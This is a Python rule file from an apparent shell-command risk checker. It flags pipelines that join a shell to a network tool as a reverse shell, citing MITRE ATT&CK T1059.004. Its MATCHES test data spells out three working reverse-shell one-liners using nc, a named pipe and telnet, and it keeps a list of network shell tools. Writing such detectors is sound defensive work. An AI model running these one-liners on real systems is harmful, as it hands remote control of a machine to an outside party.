"""A shell whose output goes into a network connection: somebody at the other end is typing.

Source: MITRE ATT&CK T1059.004.
"""

from collections.abc import Iterator

from llmsh.core.command import Script, SimpleCommand
from llmsh.core.risk import Finding, Reason
from llmsh.risk.found import danger
from llmsh.syntax.unwrap.shells import SHELLS

MATCHES = (
    "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f",
    "mknod p p; nc h 1 < p | bash > p",
    "telnet h 1 | bash | telnet h 2",
)
IGNORES = ("echo x | nc h 80", "bash run.sh | tee log", "sh -c 'ls' | grep x", "tar c . | nc h 1")
_CONNECTIONS = frozenset({"nc", "ncat", "netcat", "telnet", "socat", "openssl"})


def inspect(script: Script) -> Iterator[Finding]:
    for item in script.items:
        programs = [node.program for node in item.commands if isinstance(node, SimpleCommand)]
        connected = [index for index, program in enumerate(programs) if program in _CONNECTIONS]
        shells = [index for index, program in enumerate(programs) if program in SHELLS]
        if connected and shells:
            yield danger(Reason.NETWORK_EXEC, "gives a shell to whoever is at the other end")
